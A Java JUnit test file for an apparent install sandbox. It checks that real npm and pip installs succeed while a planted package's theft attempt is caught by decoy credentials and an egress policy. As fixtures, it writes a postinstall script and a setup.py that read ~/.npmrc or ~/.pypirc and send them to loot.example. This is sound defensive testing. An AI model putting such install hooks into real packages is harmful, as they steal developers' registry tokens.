package io.mcpsf.run;

import static org.assertj.core.api.Assertions.assertThat;

import io.mcpsf.bait.CanaryMatcher;
import io.mcpsf.bait.DecoyHome;
import io.mcpsf.boundary.Backbone;
import io.mcpsf.boundary.EgressPolicy;
import io.mcpsf.boundary.cache.AnswerCache;
import io.mcpsf.model.Exit;
import io.mcpsf.model.NetworkObservation.EgressRefused;
import io.mcpsf.model.NetworkObservation.RequestForwarded;
import io.mcpsf.model.NetworkObservation.RequestSent;
import io.mcpsf.model.Notebook;
import io.mcpsf.model.Observation;
import io.mcpsf.model.Phase;
import io.mcpsf.model.SocketObservation.BaitLeft;
import io.mcpsf.observe.notify.NotifySensor;
import io.mcpsf.os.Command;
import io.mcpsf.run.scene.FakeNetwork;
import io.mcpsf.run.scene.Watches;
import io.mcpsf.sandbox.Limits;
import io.mcpsf.sandbox.Persona;
import io.mcpsf.sandbox.Place;
import io.mcpsf.sandbox.Sandbox;
import io.mcpsf.sandbox.SandboxSpec;
import io.mcpsf.sandbox.World;
import io.mcpsf.sandbox.oci.OciExecutor;
import io.mcpsf.sandbox.oci.OciRuntimes;

import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.concurrent.CopyOnWriteArrayList;

/**
 * Real packages come from the user's real registries into a real sandbox, while a thief in the same
 * tree finds no way out.
 */
@Tag("chamber")
final class InstallProofTest {

    private static final String HOME = "/home/sam";

    @TempDir Path folder;

    private final List<Seen> seen = new CopyOnWriteArrayList<>();

    private record Seen(int process, Observation what) {}

    @Test
    void npmInstallsAndItsThiefIsCaught() throws Exception {
        Program.need("npm", "npm");
        URI registry =
                URI.create(Command.of("npm", "config", "get", "registry").run().stdout().strip());
        Path work = Files.createDirectories(folder.resolve("home/work/thief"));
        Files.writeString(
                work.resolve("package.json"),
                """
                {"name": "thief", "version": "1.0.0", "scripts": {"postinstall": "node steal.js"}}
                """);
        Files.writeString(
                work.resolve("steal.js"),
                """
                const loot = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');
                const send = (url, done) => {
                  const r = require('https').request(url, {method: 'PUT'}, a => {
                    a.resume(); a.on('end', done);
                  });
                  r.on('error', done);
                  r.end(loot);
                };
                send('https://loot.example/x', () => send('%sup', () => {}));
                """
                        .formatted(registry.resolve("/")));
        Files.writeString(
                folder.resolve("home/work/package.json"),
                """
                {"name": "p", "version": "1.0.0", "dependencies":
                  {"is-number": "7.0.0", "thief": "file:./thief"}}
                """);

        // The home's own settings hold a decoy token, which must not go to the real registry.
        String said =
                run(
                        allowing(registry),
                        Map.of(
                                "npm_config_registry", registry.toString(),
                                "npm_config_userconfig", "/dev/null",
                                "npm_config_audit", "false",
                                "npm_config_fund", "false",
                                "npm_config_update_notifier", "false",
                                "npm_config_install_links", "true"),
                        "npm",
                        "install",
                        "--foreground-scripts");

        assertThat(said).contains("added 2 packages");
        assertThat(all(RequestForwarded.class))
                .anyMatch(r -> r.url().endsWith(".tgz") && r.status() == 200)
                .allMatch(r -> r.method().equals("GET") || r.method().equals("HEAD"))
                .allMatch(r -> URI.create(r.url()).getHost().equals(registry.getHost()));
        assertThat(all(RequestSent.class))
                .anyMatch(
                        r -> r.url().equals("https://loot.example/x") && r.body().contains("npm_"));
        assertThat(seen)
                .anyMatch(
                        s ->
                                s.process() > 0
                                        && s.what() instanceof BaitLeft left
                                        && left.bait().equals("~/.npmrc")
                                        && left.destination().equals("loot.example:443"));
        assertThat(all(EgressRefused.class))
                .anyMatch(r -> r.why().equals("PUT is not a read-only method"));
    }

    @Test
    void pipInstallsAndItsThiefIsCaught() throws Exception {
        Program.need("pip3", "python3-pip");
        URI index = pipIndex();
        EgressPolicy policy = allowing(index);
        if (index.getHost().equals("pypi.org")) {
            policy = policy.allowing(new EgressPolicy.Allowed("files.pythonhosted.org", 443, true));
        }
        Path thief = Files.createDirectories(folder.resolve("home/work/thief"));
        Files.writeString(
                thief.resolve("setup.py"),
                """
                import os
                import urllib.request

                from setuptools import setup

                with open(os.path.expanduser("~/.pypirc"), "rb") as file:
                    urllib.request.urlopen("https://loot.example/x", data=file.read()).read()
                setup(name="thief", version="1.0.0", py_modules=[])
                """);

        String said =
                run(
                        policy,
                        Map.of("PIP_CONFIG_FILE", "/dev/null", "PIP_INDEX_URL", index.toString()),
                        "/usr/bin/python3",
                        "-m",
                        "pip",
                        "install",
                        "--no-cache-dir",
                        "--no-build-isolation",
                        "--disable-pip-version-check",
                        "--target",
                        "site",
                        "six==1.16.0",
                        "./thief");

        assertThat(said).contains("Successfully installed").contains("six-1.16.0");
        assertThat(all(RequestForwarded.class))
                .anyMatch(r -> r.url().contains("six-1.16.0") && r.status() == 200);
        assertThat(all(BaitLeft.class))
                .anyMatch(
                        left ->
                                left.bait().equals("~/.pypirc")
                                        && left.where().equals("http")
                                        && left.destination().equals("loot.example:443"));
    }

    private static URI pipIndex() throws InterruptedException {
        String told = Command.of("pip3", "config", "get", "global.index-url").run().stdout();
        return URI.create(told.isBlank() ? "https://pypi.org/simple/" : told.strip());
    }

    private static EgressPolicy allowing(URI registry) {
        int usual = registry.getScheme().equals("https") ? 443 : 80;
        int port = registry.getPort() < 0 ? usual : registry.getPort();
        return EgressPolicy.sinkhole()
                .allowing(new EgressPolicy.Allowed(registry.getHost(), port, true));
    }

    /** Runs a program in a sandbox with everything around it; returns all that it wrote. */
    private String run(EgressPolicy policy, Map<String, String> more, String... argv)
            throws IOException, InterruptedException {
        DecoyHome home =
                DecoyHome.furnish("thinkpad", "sam", Instant.now(), new SplittableRandom(7));
        Path seed = folder.resolve("home");
        home.write(seed);
        var canaries = new CanaryMatcher(home.canaries());
        var notebook = new Kept();
        var backbone = new Backbone(Clock.systemUTC());
        try (OciExecutor executor =
                        OciRuntimes.choose(OciRuntimes.Preference.parse("crun"), note -> {});
                FakeNetwork network =
                        FakeNetwork.open(
                                Files.createDirectories(folder.resolve("network")),
                                backbone,
                                notebook,
                                canaries,
                                Map.of(),
                                new FakeNetwork.Manner(policy, _ -> true, AnswerCache.none()))) {
            Map<String, String> env = new HashMap<>(network.environment());
            env.put("PATH", "/usr/local/bin:/usr/bin:/bin");
            env.put("HOME", HOME);
            env.putAll(more);
            var places = new ArrayList<Place>(network.certificates());
            places.add(new Place.Scratch(seed, HOME));
            var spec =
                    new SandboxSpec(
                            new SandboxSpec.Program(List.of(argv), env, HOME + "/work"),
                            places,
                            Limits.usual(),
                            new World(new Persona("thinkpad", "sam", HOME), network.joined()),
                            new SandboxSpec.Listener.None());
            try (Watches watches =
                            Watches.arm(
                                    List.of(new NotifySensor(Map.of(), canaries)),
                                    spec,
                                    network.owners());
                    Sandbox sandbox = executor.start(watches.spec())) {
                watches.started(sandbox);
                sandbox.pipes().stdin().close();
                Thread errors = Thread.ofVirtual().start(() -> keep(sandbox));
                String out =
                        new String(sandbox.pipes().stdout().readAllBytes(), StandardCharsets.UTF_8);
                errors.join();
                Exit exit = sandbox.await(Duration.ofMinutes(3)).orElseThrow();
                network.flush();
                assertThat(exit).as(out + stderr).isEqualTo(new Exit.Code(0));
                return out;
            }
        }
    }

    private volatile String stderr = "";

    private void keep(Sandbox sandbox) {
        try {
            stderr = new String(sandbox.pipes().stderr().readAllBytes(), StandardCharsets.UTF_8);
        } catch (IOException e) {
            stderr = e.toString();
        }
    }

    private <T extends Observation> List<T> all(Class<T> kind) {
        return seen.stream().map(Seen::what).filter(kind::isInstance).map(kind::cast).toList();
    }

    /** Keeps everything; there are no phases and calls here. */
    private final class Kept implements Notebook {
        @Override
        public void saw(int process, Observation what) {
            seen.add(new Seen(process, what));
        }

        @Override
        public void enter(Phase phase) {}

        @Override
        public int beginCall() {
            return 0;
        }

        @Override
        public void endCall() {}
    }
}
